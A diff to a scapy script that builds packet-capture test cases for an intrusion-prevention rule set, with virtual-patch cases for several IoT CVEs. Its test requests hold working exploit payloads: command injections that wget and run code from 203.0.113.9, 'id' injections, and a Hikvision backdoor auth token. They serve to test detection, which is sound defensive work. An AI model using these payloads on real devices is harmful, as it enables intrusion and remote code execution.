@@ -14,6 +14,9 @@ from scapy.all import IP, TCP, UDP, Ether, Raw, wrpcap
 
 HERE = os.path.join(os.path.dirname(os.path.abspath(__file__)), "cases")
 CLIENT, SERVER = "192.0.2.10", "198.51.100.20"
+# Fixed, locally administered MACs: without them scapy resolves each frame's
+# MAC by ARP on the host's own interface while building it.
+CLIENT_MAC, SERVER_MAC = "02:00:00:00:00:0a", "02:00:00:00:00:14"
 
 
 def _tcp_session(segments: list[tuple[bool, bytes]], sport: int = 40000, start: float = 0.0,
@@ -21,21 +24,21 @@ def _tcp_session(segments: list[tuple[bool, bytes]], sport: int = 40000, start: 
     """Handshake, then data segments (to_server flag, bytes) each acknowledged."""
     client_seq, server_seq = 1000, 5000
     frames = [
-        Ether() / IP(src=client, dst=server) / TCP(sport=sport, dport=dport, flags="S", seq=client_seq),
-        Ether() / IP(src=server, dst=client) / TCP(sport=dport, dport=sport, flags="SA", seq=server_seq, ack=client_seq + 1),
-        Ether() / IP(src=client, dst=server) / TCP(sport=sport, dport=dport, flags="A", seq=client_seq + 1, ack=server_seq + 1),
+        Ether(src=CLIENT_MAC, dst=SERVER_MAC) / IP(src=client, dst=server) / TCP(sport=sport, dport=dport, flags="S", seq=client_seq),
+        Ether(src=SERVER_MAC, dst=CLIENT_MAC) / IP(src=server, dst=client) / TCP(sport=dport, dport=sport, flags="SA", seq=server_seq, ack=client_seq + 1),
+        Ether(src=CLIENT_MAC, dst=SERVER_MAC) / IP(src=client, dst=server) / TCP(sport=sport, dport=dport, flags="A", seq=client_seq + 1, ack=server_seq + 1),
     ]
     client_seq += 1
     server_seq += 1
     for to_server, data in segments:
         if to_server:
-            frames.append(Ether() / IP(src=client, dst=server) / TCP(sport=sport, dport=dport, flags="PA", seq=client_seq, ack=server_seq) / Raw(data))
+            frames.append(Ether(src=CLIENT_MAC, dst=SERVER_MAC) / IP(src=client, dst=server) / TCP(sport=sport, dport=dport, flags="PA", seq=client_seq, ack=server_seq) / Raw(data))
             client_seq += len(data)
-            frames.append(Ether() / IP(src=server, dst=client) / TCP(sport=dport, dport=sport, flags="A", seq=server_seq, ack=client_seq))
+            frames.append(Ether(src=SERVER_MAC, dst=CLIENT_MAC) / IP(src=server, dst=client) / TCP(sport=dport, dport=sport, flags="A", seq=server_seq, ack=client_seq))
         else:
-            frames.append(Ether() / IP(src=server, dst=client) / TCP(sport=dport, dport=sport, flags="PA", seq=server_seq, ack=client_seq) / Raw(data))
+            frames.append(Ether(src=SERVER_MAC, dst=CLIENT_MAC) / IP(src=server, dst=client) / TCP(sport=dport, dport=sport, flags="PA", seq=server_seq, ack=client_seq) / Raw(data))
             server_seq += len(data)
-            frames.append(Ether() / IP(src=client, dst=server) / TCP(sport=sport, dport=dport, flags="A", seq=client_seq, ack=server_seq))
+            frames.append(Ether(src=CLIENT_MAC, dst=SERVER_MAC) / IP(src=client, dst=server) / TCP(sport=sport, dport=dport, flags="A", seq=client_seq, ack=server_seq))
     for index, frame in enumerate(frames):
         frame.time = 1700000000 + start + index * 0.01
     return frames
@@ -73,7 +76,8 @@ def main() -> None:
            "a content split over two segments alerts once; a to_client rule stays silent")
     frames = []
     for index in range(5):
-        frame = Ether() / IP(src=CLIENT, dst=SERVER) / UDP(sport=5000 + index, dport=9999) / Raw(b"PING-IOT")
+        frame = (Ether(src=CLIENT_MAC, dst=SERVER_MAC) / IP(src=CLIENT, dst=SERVER)
+                 / UDP(sport=5000 + index, dport=9999) / Raw(b"PING-IOT"))
         frame.time = 1700000000 + index
         frames.append(frame)
     _write("threshold-limit-udp", frames,
@@ -128,9 +132,9 @@ def event_cases() -> None:
     client_seq = 1001
     frames = _tcp_session([], sport=40032)
     for seq, data in ((client_seq, b"GET /aaaa HTTP/1.1\r\n"), (client_seq + 5, b"bbbb HTTP/1.1\r\n")):
-        frames.append(Ether() / IP(src=CLIENT, dst=SERVER)
+        frames.append(Ether(src=CLIENT_MAC, dst=SERVER_MAC) / IP(src=CLIENT, dst=SERVER)
                       / TCP(sport=40032, dport=80, flags="PA", seq=seq, ack=5001) / Raw(data))
-    frames.append(Ether() / IP(src=SERVER, dst=CLIENT)
+    frames.append(Ether(src=SERVER_MAC, dst=CLIENT_MAC) / IP(src=SERVER, dst=CLIENT)
                   / TCP(sport=80, dport=40032, flags="A", seq=5001, ack=client_seq + 21))
     for index, frame in enumerate(frames):
         frame.time = 1700000010 + index * 0.01
@@ -142,9 +146,10 @@ def event_cases() -> None:
            {1020: 1, 1021: 0},
            "stream-event: a retransmission with different bytes over delivered data")
     whole = bytes(IP(src=CLIENT, dst=SERVER) / UDP(sport=5353, dport=9999) / Raw(b"x" * 40))
-    truncated = Ether(type=0x0800) / Raw(whole[:30])   # the IPv4 total length says 68
+    truncated = Ether(src=CLIENT_MAC, dst=SERVER_MAC, type=0x0800) / Raw(whole[:30])   # the IPv4 total length says 68
     truncated.time = 1700000020
-    intact = Ether() / IP(src=CLIENT, dst=SERVER) / UDP(sport=5354, dport=9999) / Raw(b"y" * 40)
+    intact = (Ether(src=CLIENT_MAC, dst=SERVER_MAC) / IP(src=CLIENT, dst=SERVER)
+              / UDP(sport=5354, dport=9999) / Raw(b"y" * 40))
     intact.time = 1700000021
     _write("decode-event-ipv4-trunc", [truncated, intact],
            'alert pkthdr any any -> any any (msg:"truncated IPv4"; '
@@ -270,21 +275,29 @@ def virtual_patch_cases() -> None:
     _vpatch_case(
         "vpatch-hikvision-cve-2017-7921", (9100101,),
         [_request("GET", "/Security/users?auth=YWRtaW46MTEK"),
-         _request("GET", "/onvif-http/snapshot?auth=YWRtaW46MTEK%0a")],
+         _request("GET", "/onvif-http/snapshot?auth=YWRtaW46MTEK%0a"),
+         _request("GET", "/System/configurationFile?%61uth=YWRtaW46MTE="),
+         _request("GET", "/Security/users?auth=c3VwcG9ydDoxMQ==")],
         [_request("GET", "/onvif-http/snapshot"),
-         _request("GET", "/ISAPI/System/deviceInfo?auth=dXNlcjpzZWNyZXQ=")],
-        {9100101: 2}, "Hikvision auth bypass: the magic admin:11 token drops; other requests pass")
+         _request("GET", "/ISAPI/System/deviceInfo?auth=dXNlcjpzZWNyZXQ="),
+         _request("GET", "/Security/users?auth=YWRtaW46MTEx")],
+        {9100101: 4}, "Hikvision auth bypass: any user with the backdoor password 11, however "
+        "encoded, drops; real credentials and password 111 pass")
     _vpatch_case(
         "vpatch-avtech-cve-2024-7029", (9100102, 9100103),
         [_request("POST", "/cgi-bin/supervisor/Factory.cgi",
                   b"action=white_led&brightness=$(cd /tmp;wget http://203.0.113.9/a -O-|sh) #"),
          _request("POST", "/cgi-bin/supervisor/Factory.cgi",
                   b"action=white_led&brightness=%24%28id%29"),
-         _request("GET", "/cgi-bin/supervisor/Factory.cgi?action=white_led&brightness=5%26id")],
+         _request("GET", "/cgi-bin/supervisor/Factory.cgi?action=white_led&brightness=5%26id"),
+         _request("POST", "/cgi-bin/supervisor/Factory.cgi", b"action=white_led&bright%6eess=$(id)"),
+         _request("GET", "/cgi-bin/supervisor/Factory.cgi?action=white_led;%62rightness=5%26id")],
         [_request("POST", "/cgi-bin/supervisor/Factory.cgi", b"action=white_led&brightness=50"),
-         _request("GET", "/cgi-bin/supervisor/Factory.cgi?action=white_led&brightness=100")],
-        {9100102: 2, 9100103: 1},
-        "AVTECH Factory.cgi: a non-numeric brightness drops, plain or encoded; numbers pass", dport=88)
+         _request("GET", "/cgi-bin/supervisor/Factory.cgi?action=white_led&brightness=100"),
+         _request("POST", "/cgi-bin/supervisor/Factory.cgi", b"action=white_led&bright%6eess=50")],
+        {9100102: 3, 9100103: 2},
+        "AVTECH Factory.cgi: a non-numeric brightness drops, its name or value plain or "
+        "encoded; numbers pass", dport=88)
     _vpatch_case(
         "vpatch-tplink-cve-2023-1389", (9100104, 9100105),
         [_request("POST", "/cgi-bin/luci/;stok=/locale?form=country",
@@ -297,16 +310,18 @@ def virtual_patch_cases() -> None:
         "TP-Link locale: a country that is not a country code drops (body or query); read and DE pass",
         dport=8080)
     _vpatch_case(
-        "vpatch-gpon-cve-2018-10561-10562", (9100106, 9100107),
+        "vpatch-gpon-cve-2018-10561-10562", (9100106, 9100107, 9100112),
         [_request("POST", "/GponForm/diag_Form?images/",
                   b"XWebPageName=diag&diag_action=ping&wan_conlist=0&dest_host=`busybox+wget+http://203.0.113.9/g+-O+/tmp/g;sh+/tmp/g`&ipv=0"),
          _request("POST", "/GponForm/diag_Form?images/",
-                  b"XWebPageName=diag&diag_action=ping&wan_conlist=0&dest_host=%3bid&ipv=0")],
+                  b"XWebPageName=diag&diag_action=ping&wan_conlist=0&dest_host=%3bid&ipv=0"),
+         _request("GET", "/GponForm/diag_Form?XWebPageName=diag&diag_action=ping&dest%5fhost=;id&ipv=0")],
         [_request("POST", "/GponForm/diag_Form",
                   b"XWebPageName=diag&diag_action=ping&wan_conlist=0&dest_host=198.51.100.1&ipv=0"),
          _request("GET", "/images/logo.gif")],
-        {9100106: 2, 9100107: 2},
-        "GPON ONT: ?images/ bypass and a non-host dest_host drop; an authenticated ping passes")
+        {9100106: 2, 9100107: 2, 9100112: 1},
+        "GPON ONT: ?images/ bypass and a non-host dest_host (body or query) drop; "
+        "an authenticated ping passes")
     _vpatch_case(
         "vpatch-tbk-cve-2024-3721", (9100040,),
         [_request("POST", "/device.rsp?opt=sys&cmd=___S_O_S_T_R_E_A_MAX___&mdb=sos&mdc=cd%20%2Ftmp%3Bwget%20http%3A%2F%2F203.0.113.9%2Ft.sh",
@@ -317,16 +332,19 @@ def virtual_patch_cases() -> None:
          _request("GET", "/device.rsp?opt=sys&cmd=___S_O_S_T_R_E_A_MAX___&mdb=sos")],
         {9100040: 2}, "TBK DVR: the SOS debug command with an mdc command drops; other device.rsp calls pass")
     _vpatch_case(
-        "vpatch-zyxel-cve-2017-18368", (9100109,),
+        "vpatch-zyxel-cve-2017-18368", (9100109, 9100113),
         [_request("POST", "/cgi-bin/ViewLog.asp",
                   b"remote_submit_Flag=1&remote_syslog_Flag=1&RemoteSyslogSupported=1&LogFlag=0"
                   b"&remote_host=%3bcd+/tmp;wget+http://203.0.113.9/z;sh+z%3b%23&remoteSubmit=Save"),
-         _request("POST", "/cgi-bin/ViewLog.asp", b"remote_host=198.51.100.5|id&remoteSubmit=Save")],
+         _request("POST", "/cgi-bin/ViewLog.asp", b"remote_host=198.51.100.5|id&remoteSubmit=Save"),
+         _request("POST", "/cgi-bin/ViewLog.asp", b"LogFlag=0;remote%5Fhost=198.51.100.5%26id"),
+         _request("GET", "/cgi-bin/ViewLog.asp?remote_host=%3bid&remoteSubmit=Save")],
         [_request("POST", "/cgi-bin/ViewLog.asp",
                   b"remote_submit_Flag=1&remote_syslog_Flag=1&RemoteSyslogSupported=1&LogFlag=0"
                   b"&remote_host=198.51.100.5&remoteSubmit=Save"),
          _request("GET", "/cgi-bin/ViewLog.asp")],
-        {9100109: 2}, "Zyxel ViewLog.asp: a remote_host that is not a host drops; a syslog server passes")
+        {9100109: 3, 9100113: 1},
+        "Zyxel ViewLog.asp: a remote_host that is not a host (body or query) drops; a syslog server passes")
     _vpatch_case(
         "vpatch-dlink-nas-cve-2024-3273", (9100110,),
         [_request("GET", "/cgi-bin/nas_sharing.cgi?user=messagebus&passwd=&cmd=15&system=aWQ="),
